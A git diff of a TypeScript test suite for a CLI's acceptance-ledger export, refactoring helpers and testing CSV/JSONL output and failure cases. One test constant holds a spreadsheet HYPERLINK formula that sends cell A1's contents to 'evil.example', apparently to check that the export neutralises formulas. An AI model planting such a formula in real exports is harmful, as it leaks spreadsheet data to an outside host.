@@ -6,13 +6,14 @@ import { join } from 'node:path'
 import { describe, type TestContext, test } from 'node:test'
 import { setTimeout as sleep } from 'node:timers/promises'
 import { acceptanceRequest, openReplica } from '../ledger/fixture.ts'
-import { query, temporaryFolder } from '../support/databases.ts'
-import { emptyLedger, fill, reachable } from '../support/ledgers.ts'
+import { databases, query, temporaryFolder } from '../support/databases.ts'
+import { emptyLedger, fill } from '../support/ledgers.ts'
 import { skipWithoutDevFull } from '../support/requirement.ts'
-import { ended, gatewayctl, onTerminal, skipWithoutScript, startGatewayctl } from './gatewayctl.ts'
+import { until } from '../support/until.ts'
+import { ended, gatewayctl, gatewayctlProcess, onTerminal, skipWithoutScript, startGatewayctl } from './gatewayctl.ts'
 
 const EXPORT = ['portal', 'acceptances', 'export']
-const sqlite = reachable.find(({ dialect }) => dialect === 'sqlite') ?? assert.fail()
+const sqlite = databases.find(({ dialect }) => dialect === 'sqlite') ?? assert.fail()
 const ATTEMPT_COLUMNS =
   'id,asked_at,answered_at,engine_status,policy_version,document_sha256,locale,document_source,client_address'
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"x")'
@@ -41,7 +42,7 @@ async function smallLedger(t: TestContext, database = sqlite) {
 
 const lines = (text: string) => text.split('\n').filter((line) => line !== '')
 
-for (const database of reachable) {
+for (const database of databases) {
   describe(`export, ${database.name}`, { skip: database.skip }, () => {
     test('JSON Lines has every column unchanged; CSV the same, except for formulas', async (t) => {
       const ledger = await smallLedger(t, database)
@@ -178,7 +179,7 @@ describe('where it goes', () => {
       gatewayctl([...EXPORT, '--output', fifo], { ledger }),
       gatewayctl([...EXPORT, '--output', join(folder, 'folder')], { ledger }),
       gatewayctl([...EXPORT, '--output', join(folder, 'missing', 'x.csv')], { ledger }),
-      gatewayctl(EXPORT, { ledger, shell: `ulimit -f 0; exec "$@" --output ${join(folder, 'x.csv')}` }),
+      gatewayctlProcess(EXPORT, { ledger, shell: `ulimit -f 0; exec "$@" --output ${join(folder, 'x.csv')}` }),
     ])
     for (const { status, stderr } of [pipe, isFolder]) {
       assert.equal(status, 2)
@@ -195,7 +196,7 @@ describe('where it goes', () => {
   test('a full standard output', {
     skip: skipWithoutDevFull,
   }, async (t) => {
-    const { status, stderr } = await gatewayctl(EXPORT, {
+    const { status, stderr } = await gatewayctlProcess(EXPORT, {
       ledger: await smallLedger(t),
       shell: 'exec "$@" > /dev/full',
     })
@@ -208,7 +209,7 @@ describe('where it goes', () => {
     await fill(ledger, 20_000)
     for (const format of ['csv', 'jsonl']) {
       const shell = 'set -o pipefail; "$@" | head -n 2'
-      const { status, stdout, stderr } = await gatewayctl([...EXPORT, '--format', format], { ledger, shell })
+      const { status, stdout, stderr } = await gatewayctlProcess([...EXPORT, '--format', format], { ledger, shell })
       assert.deepEqual([status, stderr, lines(stdout).length], [0, '', 2])
     }
   })
@@ -255,7 +256,7 @@ describe('on a terminal', { skip: skipWithoutScript }, () => {
     assert.equal(readFileSync(file, 'utf8'), 'the old one')
 
     const child = startGatewayctl([...EXPORT, '--output', file], { ledger })
-    while (readdirSync(folder).length === 1) await sleep(5)
+    await until(() => readdirSync(folder).length > 1)
     child.kill('SIGTERM')
     assert.equal((await ended(child)).status, 143)
     assert.deepEqual(readdirSync(folder), ['acceptances.csv'])
